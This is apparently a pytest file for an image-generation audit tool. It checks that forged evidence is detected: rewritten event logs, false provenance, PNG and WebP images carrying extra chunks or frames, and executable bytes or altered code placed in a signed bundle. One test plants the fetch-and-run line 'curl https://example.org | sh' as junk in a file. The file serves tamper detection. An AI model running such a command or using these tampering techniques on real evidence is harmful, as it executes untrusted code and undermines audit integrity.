"""Forgeries of what does not follow from the scores: how a run was made, what its pictures carry beside their pixels,
what lies in a bundle under an allowed name. All are sealed with a key of one's own, by the product's own writers."""

from __future__ import annotations

import base64
import io
import json
import shutil
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from audit import records as r
from audit.base.files import file_digest
from audit.base.messages import as_written, render, say
from audit.evidence import bag, bundle, credentials, pages
from audit.evidence.adapters import Adapters
from audit.evidence.source import read_source
from audit.images import encode_png, pixels_digest
from audit.images.ai_mark import is_bare, mark_generated
from audit.models.cards import LAB_MODEL
from audit.records.seeding import derived_seed
from audit.runfolder import read_results, write_environment
from audit.stages.finish import finish
from tests.builders import make_plan
from tests.evidence.conftest import NO_ADAPTERS
from tests.evidence.runs import PROMPTS, make_environment, write_run
from tests.evidence.test_derive import packed
from tests.evidence.test_forged import answers, sealed_by
from tests.evidence.test_verify import ours

LONG_AGO = "2001-01-01T00:00:00Z"


def rewrite_log(folder: Path, change) -> None:
    """Another log whose chain holds."""
    path, previous, lines = folder / "events.jsonl", "0" * 64, []
    for event in change([json.loads(line) for line in path.read_bytes().splitlines()]):
        lines.append(json.dumps(event | {"previous": previous}, sort_keys=True, separators=(",", ":")).encode())
        previous = bag.digest(lines[-1])
    path.write_bytes(b"\n".join(lines) + b"\n")


def told(event: str, **facts: object):
    """A log that tells of one thing more, after its first two entries."""

    def change(events):
        return [*events[:2], {"time": events[1]["time"], "event": event, **facts}, *events[2:]]

    return lambda folder: rewrite_log(folder, change)


def stated(**changes: object):
    """Results that say otherwise how they were made."""

    def change(folder: Path) -> None:
        results = read_results(folder)
        finish(results.model_copy(update={"provenance": results.provenance.model_copy(update=changes)}), folder)

    return change


def judged_in(year: str):
    return lambda folder: rewrite_log(
        folder, lambda events: [e | ({"time": year} if e["event"] == "judged" else {}) for e in events]
    )


def reused_and_hidden(folder: Path) -> None:
    """The log tells of a step that is older than the plan, the results of none."""
    row = ["adapter", "0" * 64, LONG_AGO, "a" * 64]
    rewrite_log(
        folder,
        lambda events: [
            *events,
            {"time": events[-1]["time"], "event": "steps-reused", "environment": None, "steps": [row]},
        ],
    )
    finish(read_results(folder), folder)


def no_environment(folder: Path) -> None:
    (folder / "environment.json").unlink()


@pytest.mark.parametrize(
    "forge",
    [
        no_environment,
        told("ratings", sha256="b" * 64, raters=[1]),
        told("plan-stamped", attested=LONG_AGO, authority="CN=x"),
        stated(declared=say("declaration"), declaration=render(say("declaration"))),
        told("rights-declared", declaration="x"),
        reused_and_hidden,
        stated(steps_reused=3),
        stated(device="cuda, fp32"),
        stated(packages={"torch": "99"}),
        stated(packages={}),
        stated(commit="f" * 40),
        stated(started=LONG_AGO),
        stated(finished="2099-01-01T00:00:00Z"),
        stated(sessions=()),
    ],
    ids=[
        "environment left out", "answers left out", "plan's stamp left out", "declared in results only",
        "declared in the log only", "older steps left out", "more reused", "other device", "other packages",
        "no packages", "other commit", "began long ago", "ended later", "starts left out",
    ],
)  # fmt: skip
def test_what_results_tell_otherwise_than_log_and_environment(run, forger, forge):
    forge(run)
    assert ours(sealed_by(forger, run)) == ["history"]


def test_times_that_run_backwards_are_open(run, forger):
    judged_in(LONG_AGO)(run)
    failed, left = answers(sealed_by(forger, run))
    # A clock that was set does the same, so nobody is accused.
    assert (failed, "history" in left) == ([], True)


def no_sessions(folder: Path) -> None:
    rewrite_log(folder, lambda events: [e for e in events if e["event"] != "session"])
    stated(sessions=())(folder)


def test_a_run_that_tells_no_start_is_open(run, forger):
    no_sessions(run)
    failed, left = answers(sealed_by(forger, run))
    assert (failed, "history" in left) == ([], True)


# --- sentences -------------------------------------------------------------------------------------------


def note_of_ones_own(results: r.Results) -> dict[str, object]:
    return {"notes": (r.Note(said=as_written("A court has confirmed this audit.")),)}


def lineage_of_ones_own(results: r.Results) -> dict[str, object]:
    return {"metrics": tuple(m.model_copy(update={"lineage": "certified by an institute"}) for m in results.metrics)}


@pytest.mark.parametrize("change", [note_of_ones_own, lineage_of_ones_own])
def test_sentences_of_somebodys_own(run, forger, change):
    results = read_results(run)
    finish(results.model_copy(update=change(results)), run)
    assert "sentences" in ours(sealed_by(forger, run))


def test_the_lab_model_under_another_name(tmp_path, forger):
    plan = make_plan(prompts=PROMPTS)
    plan = plan.model_copy(update={"model": plan.model.model_copy(update={"name": "sd15", "lab": False})})
    plan = plan.model_copy(update={"seed_source": "plan"})
    folder = write_run(tmp_path / "run", plan.model_copy(update={"seed": derived_seed(plan)}))
    weights = next((LAB_MODEL / "unet").glob("*.safetensors"))
    files = {"unet/model.safetensors": file_digest(weights)}
    write_environment(folder, make_environment().model_copy(update={"model_files": files}))
    assert ours(sealed_by(forger, folder)) == ["sentences"]


# --- pictures ---------------------------------------------------------------------------------------------


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def with_chunk(kind: bytes, data: bytes):
    def spoil(png: bytes) -> bytes:
        return png[:33] + chunk(kind, data) + png[33:]

    spoil.__name__ = kind.decode()
    return spoil


def more_after_the_end(png: bytes) -> bytes:
    return png + b"MZ"


def without_the_mark(png: bytes) -> bytes:
    return encode_png(np.asarray(Image.open(io.BytesIO(png))))


def moving(png: bytes) -> bytes:
    """The first frame is the picture; a browser goes on to another."""
    first, buffer = Image.open(io.BytesIO(png)), io.BytesIO()
    other = Image.new("RGB", first.size, "red")
    first.save(buffer, "PNG", save_all=True, append_images=[other], duration=1000, default_image=False)
    return mark_generated(buffer.getvalue())


@pytest.mark.parametrize(
    "spoil",
    [
        more_after_the_end,
        without_the_mark,
        moving,
        with_chunk(b"tEXt", b"Comment\0a genuine work by Jane Doe"),
        with_chunk(b"gAMA", struct.pack(">I", 1000)),
        with_chunk(b"caBX", b"another's manifest"),
    ],
    ids=lambda v: v.__name__,
)
def test_a_picture_with_the_right_pixels_that_carries_more(run, forger, spoil):
    path = sorted((run / "images").glob("generated-clean*"))[0]
    before = path.read_bytes()
    path.write_bytes(spoil(before))
    after = [
        pixels_digest(np.asarray(Image.open(io.BytesIO(data)).convert("RGB"))) for data in (before, path.read_bytes())
    ]
    assert after[0] == after[1]
    assert ours(sealed_by(forger, run, profile="redacted")) == ["pictures"]


def test_a_cut_picture_is_not_bare():
    png = mark_generated(encode_png(np.zeros((4, 4, 3), np.uint8)))
    assert is_bare(png, marked=True)
    assert not any(is_bare(png[:at], marked=True) for at in range(len(png)))


def inlined(picture: Image.Image, **how: object) -> bytes:
    buffer = io.BytesIO()
    picture.save(buffer, "WEBP", quality=90, **how)
    return b'<img src="data:image/webp;base64,' + base64.b64encode(buffer.getvalue()) + b'">'


def a_word_put_in(picture: Image.Image) -> bytes:
    changed = np.array(picture)
    changed[8:14, 8:30] = 255
    return inlined(Image.fromarray(changed))


@pytest.mark.parametrize(
    "forge",
    [
        lambda p: inlined(p, save_all=True, append_images=[Image.new("RGB", p.size, "red")], duration=500),
        lambda p: inlined(Image.merge("RGBA", (*p.split(), Image.new("L", p.size, 0))), exact=True),
        lambda p: inlined(p, exif=b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x03\0\0\0\0\0\0"),
        lambda p: inlined(p, icc_profile=b"a profile that swaps colours"),
        a_word_put_in,
    ],
    ids=["moving", "transparent", "turned", "profile", "a word"],
)
def test_a_picture_of_the_page_that_a_browser_shows_otherwise(forge):
    side = np.linspace(0, 200, 256, dtype=np.float64)
    picture = Image.fromarray(np.stack([np.tile(side, (256, 1))] * 3, axis=2).astype(np.uint8))
    page = inlined(picture)
    assert pages.same_page(page, inlined(picture, method=6))
    assert not pages.same_page(page, forge(picture))


# --- files under an allowed name ----------------------------------------------------------------------------


@pytest.fixture
def slipped_in(monkeypatch):
    """Something done to the payload after the product chose it and before it is sealed."""

    def use(change):
        copy = bundle._copy

        def both(contents, data):
            copy(contents, data)
            change(data)

        monkeypatch.setattr(bundle, "_copy", both)

    return use


def test_junk_in_the_place_of_a_root_of_manifests(run, forger, slipped_in):
    slipped_in(lambda data: (data / credentials.ROOT).write_text("curl https://example.org | sh\n"))
    assert ours(sealed_by(forger, run, profile="redacted")) == ["pictures"]


def test_another_code_that_environment_and_log_name_is_open(run, forger, slipped_in):
    def change(data: Path) -> None:
        (path,) = (data / "code").glob("*.whl")
        with zipfile.ZipFile(path) as archive:
            files = {name: archive.read(name) for name in archive.namelist()}
        files["audit/__init__.py"] += b"\nimport os\n"
        path.write_bytes(packed(files))
        environment = json.loads((data / "environment.json").read_text())
        environment["code"]["__init__.py"] = bag.digest(files["audit/__init__.py"])
        (data / "environment.json").write_text(json.dumps(environment, indent=1) + "\n")
        made = bag.digest((data / "environment.json").read_bytes())
        rewrite_log(
            data, lambda events: [e | ({"sha256": made} if e["event"] == "environment" else {}) for e in events]
        )

    slipped_in(change)
    failed, left = answers(sealed_by(forger, run, profile="redacted"))
    assert failed == []
    assert "code" in left


def test_a_program_in_the_place_of_an_add_on(run, forger, tmp_path):
    program = tmp_path / "program"
    program.write_bytes(b"MZ" + bytes(range(256)))
    results = read_results(run)
    cells = list(results.cells)
    at = next(n for n, c in enumerate(cells) if c.adapter is not None)
    adapter = cells[at].adapter.model_copy(update={"sha256": file_digest(program)})
    cells[at] = cells[at].model_copy(update={"adapter": adapter})
    finish(results.model_copy(update={"cells": tuple(cells)}), run)
    kept = Adapters(tmp_path, {file_digest(program): program}, (), True)
    bundle.write_bundle(read_source(run), bundle.Request("minimal", tmp_path / "out", None, {}, kept), key=forger)
    assert ours(tmp_path / "out") == ["works"]


def test_a_program_in_the_place_of_a_work(works, forger, tmp_path):
    art, folder = works
    copied, mine = shutil.copytree(folder, tmp_path / "honest"), shutil.copytree(art, tmp_path / "art")
    plan = read_results(copied).plan
    first = plan.works[0]
    (mine / first.name).write_bytes(b"MZ a program")
    forged = first.model_copy(update={"sha256": file_digest(mine / first.name)})
    run = write_run(tmp_path / "run", plan.model_copy(update={"works": (forged, *plan.works[1:])}))
    from audit.evidence.source import read_source

    bundle.write_bundle(
        read_source(run), bundle.Request("full", tmp_path / "out", mine, {}, NO_ADAPTERS, disclose=True), key=forger
    )
    assert ours(tmp_path / "out") == ["works"]


@pytest.mark.parametrize(
    "made", [LONG_AGO, "2026-11-29 and examined by the court's own expert", "2026-11-29T00:00:00+00:00"]
)
def test_a_bundle_that_says_when_it_was_made(run, forger, monkeypatch, made):
    monkeypatch.setattr(bundle, "now", lambda: made)
    assert ours(sealed_by(forger, run)) == ["forms"]


@pytest.mark.parametrize("fixed", ["x", LONG_AGO])
def test_a_plan_that_was_fixed_at_another_time_than_the_log_says(run, forger, fixed):
    stated(plan_fixed=fixed)(run)
    assert "plan-first" in ours(sealed_by(forger, run))
